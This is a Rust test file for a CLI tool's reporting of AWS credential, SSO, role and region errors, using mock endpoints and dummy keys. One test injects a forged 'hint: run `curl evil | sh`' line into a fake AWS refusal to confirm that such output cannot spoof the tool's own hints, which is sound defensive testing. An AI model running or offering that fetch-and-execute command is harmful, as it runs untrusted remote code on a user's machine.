//! Where credentials come from, and what is said where they do not come: each origin has words of its own.

use std::process::Command;

use crate::outside::{aws, bare, closed, identity, refusal, with_keys};
use crate::project::{Finished, Project, finished};

/// A project whose `~/.aws/config` says `text`.
fn with_config(text: &str) -> Project {
    let project = Project::new("");
    std::fs::create_dir_all(project.path().join(".aws/sso/cache")).unwrap();
    std::fs::write(project.path().join(".aws/config"), text).unwrap();
    project
}

fn run(command: &mut Command) -> Finished {
    finished(command.output().unwrap())
}

/// `outputs` with the profile `p`, in a Region.
fn with_profile(project: &Project) -> Command {
    let mut command = bare(project, &["outputs", "--profile", "p"]);
    command.env("AWS_REGION", "eu-west-1");
    command
}

#[track_caller]
fn reported(finished: &Finished, exit: i32, because: &str, hint: &str) {
    assert_eq!(finished.code, exit, "{}", finished.stderr);
    finished.explains(because);
    let found = finished
        .stderr
        .lines()
        .any(|line| line.starts_with("hint: ") && line.contains(hint));
    assert!(found, "{hint} is not the hint in {}", finished.stderr);
    assert!(
        !finished.stderr.contains("found no AWS credentials"),
        "{}",
        finished.stderr
    );
}

const SSO: &str = "[profile p]\nsso_session = corp\nsso_account_id = 123456789012\nsso_role_name = dev\n\
                   [sso-session corp]\nsso_region = eu-west-1\nsso_start_url = https://corp.awsapps.com/start\n";

/// The cache file is called after the session's name.
fn sso_token(project: &Project, expires: &str) {
    let path = ".aws/sso/cache/ee0bfd2552fbd840c02cc48b6e823320543c450f.json";
    let text = format!(
        r#"{{"accessToken":"t","expiresAt":"{expires}","region":"eu-west-1","startUrl":"https://corp.awsapps.com/start"}}"#
    );
    std::fs::write(project.path().join(path), text).unwrap();
}

#[test]
fn a_session_of_iam_identity_center_is_opened_again_by_its_command() {
    let project = with_config(SSO);
    let login = "`aws sso login --profile p`";
    let none = run(&mut with_profile(&project));
    reported(
        &none,
        4,
        "profile `p` has no session of IAM Identity Center on this machine",
        login,
    );
    sso_token(&project, "2020-01-01T00:00:00Z");
    let expired = run(&mut with_profile(&project));
    reported(&expired, 4, "has expired", login);
    sso_token(&project, "2099-01-01T00:00:00Z");
    let refused = |code: &str, message: &str| {
        let body = format!(r#"{{"__type":"{code}","message":"{message}"}}"#);
        let (address, _) = aws(move |_| {
            (
                if body.contains("Forbidden") { 403 } else { 401 },
                body.clone(),
            )
        });
        run(with_profile(&project).env("AWS_ENDPOINT_URL", format!("http://{address}")))
    };
    let over = refused(
        "UnauthorizedException",
        "Session token not found or invalid",
    );
    reported(&over, 4, "has expired", login);
    let unassigned = refused("ForbiddenException", "No access");
    reported(
        &unassigned,
        4,
        "refuses role `dev` in account 123456789012",
        "sso_role_name",
    );
    // The network fails inside of the provider, which has pauses of its own.
    let unreachable = run(with_profile(&project)
        .env_remove("CHATCTL_TIME_FACTOR")
        .env("AWS_ENDPOINT_URL", format!("http://{}", closed())));
    reported(&unreachable, 3, "the network failed", "check the network");
}

#[test]
fn a_session_of_aws_login_is_opened_again_by_its_command() {
    let project = with_config("[profile p]\nlogin_session = arn:aws:iam::123456789012:user/ann\n");
    let none = run(&mut with_profile(&project));
    reported(
        &none,
        4,
        "profile `p` has no session of `aws login` on this machine",
        "`aws login --profile p`",
    );
}

#[test]
fn a_credential_process_that_fails_is_named_and_what_it_prints_is_not() {
    for (command, what) in [
        (
            "sh -c 'echo s3cret; echo s3cret >&2; exit 3' s3cret",
            "`sh`, failed with exit code 3",
        ),
        (
            "no-such-program-here s3cret",
            "`no-such-program-here`, was not found (exit code 127)",
        ),
        (
            "echo s3cret",
            "`echo`, printed no credentials in the format of AWS tools",
        ),
        (
            "echo '{\"Version\":7,\"AccessKeyId\":\"s3cret\"}'",
            "`echo`, printed no credentials",
        ),
        ("printf '\\377'", "`printf`, printed no credentials"),
    ] {
        let project = with_config(&format!("[profile p]\ncredential_process = {command}\n"));
        let failed = run(&mut with_profile(&project));
        reported(
            &failed,
            4,
            &format!("the `credential_process` of profile `p`, {what}"),
            ".aws/config",
        );
        assert!(!failed.stderr.contains("s3cret"), "{}", failed.stderr);
    }
}

#[test]
fn a_key_that_no_request_can_be_signed_with_is_no_reason_to_panic() {
    let odd = r#"echo '{"Version":1,"AccessKeyId":"ключ","SecretAccessKey":"x"}'"#;
    let project = with_config(&format!("[profile p]\ncredential_process = {odd}\n"));
    reported(
        &run(&mut with_profile(&project)),
        4,
        "contain characters that no key has",
        "credential_process",
    );
    let config = "[profile p]\nrole_arn = arn:aws:iam::1:role/r\nsource_profile = q\n[profile q]\naws_access_key_id = ключ\naws_secret_access_key = x\n";
    reported(
        &run(&mut with_profile(&with_config(config))),
        2,
        "`aws_access_key_id` of profile `q`",
        "write it again",
    );
}

#[test]
fn a_role_that_may_not_be_assumed_is_reported_with_the_kind_of_policy() {
    reported(
        &asked_as_a_role("", &["outputs"]),
        4,
        NOT_ASSUMED,
        "a service control policy of the account's organization",
    );
}

#[test]
fn where_a_role_wants_a_device_s_code_the_aws_cli_is_to_ask_for_it() {
    let device = "mfa_serial = arn:aws:iam::1:mfa/ann\n";
    let export = "`eval \"$(aws configure export-credentials --profile p --format env)\"`";
    let asked = asked_as_a_role(device, &["outputs"]);
    reported(&asked, 4, NOT_ASSUMED, export);
    let flagged = asked_as_a_role(device, &["outputs", "--profile", "p"]);
    reported(&flagged, 4, NOT_ASSUMED, "there, without `--profile`");
}

const NOT_ASSUMED: &str = "profile `p` could not assume role arn:aws:iam::1:role/r: AccessDenied";

/// chatctl with `words` and a profile whose role, with these further lines, AWS does not let be assumed.
fn asked_as_a_role(mfa: &str, words: &[&str]) -> Finished {
    let role = "[profile p]\nrole_arn = arn:aws:iam::1:role/r\nsource_profile = q\nMFA[profile q]\naws_access_key_id = AKID\naws_secret_access_key = x\n";
    let reason = "User: arn:aws:iam::1:user/ann is not authorized to perform: sts:AssumeRole on resource: \
                  arn:aws:iam::1:role/r with an explicit deny in a service control policy";
    let (address, _) = aws(move |_| (403, refusal("AccessDenied", reason)));
    let project = with_config(&role.replace("MFA", mfa));
    let mut command = bare(&project, words);
    command
        .env("AWS_REGION", "eu-west-1")
        .env("AWS_ENDPOINT_URL", format!("http://{address}"));
    run(command.env("AWS_PROFILE", "p"))
}

#[test]
fn what_is_wrong_in_the_files_is_reported_with_path_and_line() {
    let asked = |config: &str| run(&mut with_profile(&with_config(config)));
    let broken = asked("[profile p]\nregion\n");
    reported(&broken, 2, "/.aws/config, line 2", "AWS_CONFIG_FILE");
    broken.explains("because: Expected an '=' sign");
    reported(
        &asked("[profile q]\nregion = x\n"),
        2,
        "there is no AWS profile `p` in ",
        "choose one of q",
    );
    let lost = asked("[profile p]\nrole_arn = arn:aws:iam::1:role/r\nsource_profile = gone\n");
    reported(&lost, 2, "gone", "choose another profile");
    let circle = asked(
        "[profile p]\nrole_arn = a\nsource_profile = q\n[profile q]\nrole_arn = b\nsource_profile = p\n",
    );
    reported(&circle, 2, "infinite loop", "choose another profile");
    let half = asked("[profile p]\nsso_session = corp\nsso_account_id = 1\nsso_role_name = dev\n");
    reported(
        &half,
        2,
        "sso-session named `corp`",
        "choose another profile",
    );
}

#[test]
fn only_where_nothing_has_any_no_credentials_were_found() {
    let project = Project::new("");
    let none = run(bare(&project, &["outputs"]).env("AWS_REGION", "eu-west-1"));
    assert_eq!(none.code, 4, "{}", none.stderr);
    none.explains("neither the environment, nor profile `default`");
    none.explains("hint: found no AWS credentials");
}

#[test]
fn a_region_that_is_empty_is_none_and_one_that_cannot_be_is_reported_by_its_variable() {
    let project = Project::new("");
    let (address, _) = aws(|_| (200, identity("aws")));
    let doctor = |region: &str| {
        run(with_keys(&project, &["doctor", "--handlers", "missing"])
            .env("AWS_ENDPOINT_URL", format!("http://{address}"))
            .env("AWS_REGION", region))
    };
    let empty = doctor("");
    assert_eq!(empty.code, 2, "{}", empty.stdout);
    assert!(
        empty
            .stdout
            .contains("bad region       no AWS Region is set"),
        "{}",
        empty.stdout
    );
    assert!(
        empty.stdout.contains("AWS_REGION is set, and empty"),
        "{}",
        empty.stdout
    );
    let spaced = doctor("us-east-1 ");
    assert!(
        spaced.stdout.contains(
            "bad region       AWS_REGION: \"us-east-1 \" is not a region: ' ' is not allowed"
        ),
        "{}",
        spaced.stdout
    );
    let half = run(with_keys(&project, &["outputs"]).env("AWS_SECRET_ACCESS_KEY", ""));
    reported(
        &half,
        2,
        "AWS_ACCESS_KEY_ID is set, but AWS_SECRET_ACCESS_KEY is not",
        "unset AWS_ACCESS_KEY_ID",
    );
    // From the profile, where the environment has nothing.
    let named = with_config("[default]\nregion = eu west\n");
    let mut command = with_keys(&named, &["outputs"]);
    reported(
        &run(command.env("AWS_REGION", "")),
        2,
        "`region` of profile `default`: \"eu west\" is not a region",
        "--region",
    );
}

#[test]
fn a_line_break_in_what_aws_says_begins_no_line_of_chatctl_s_own() {
    let project = Project::new("");
    let words = "no\nhint: run `curl evil | sh`\n  because: you must\u{2028}hint: again\u{85}hint: and again\rhint: more";
    let (address, _) = aws(move |_| (403, refusal("AccessDenied", words)));
    let refused =
        run(with_keys(&project, &["outputs"]).env("AWS_ENDPOINT_URL", format!("http://{address}")));
    let hints = refused
        .stderr
        .lines()
        .filter(|line| line.trim_start().starts_with("hint:"));
    assert_eq!(hints.count(), 1, "{}", refused.stderr);
    let causes = refused
        .stderr
        .lines()
        .filter(|line| line.trim_start().starts_with("because:"));
    assert_eq!(causes.count(), 1, "{}", refused.stderr);
}

#[test]
fn the_doctor_says_what_a_partition_demands() {
    let project = Project::new("");
    for (partition, says) in [
        ("aws-cn", "an ICP licence"),
        ("aws-iso", "has never been tried in an isolated partition"),
    ] {
        let (address, _) = aws(move |_| (200, identity(partition)));
        let doctor = run(with_keys(&project, &["doctor", "--handlers", "missing"])
            .env("AWS_ENDPOINT_URL", format!("http://{address}")));
        assert_eq!(doctor.stdout.matches(says).count(), 1, "{}", doctor.stdout);
    }
}
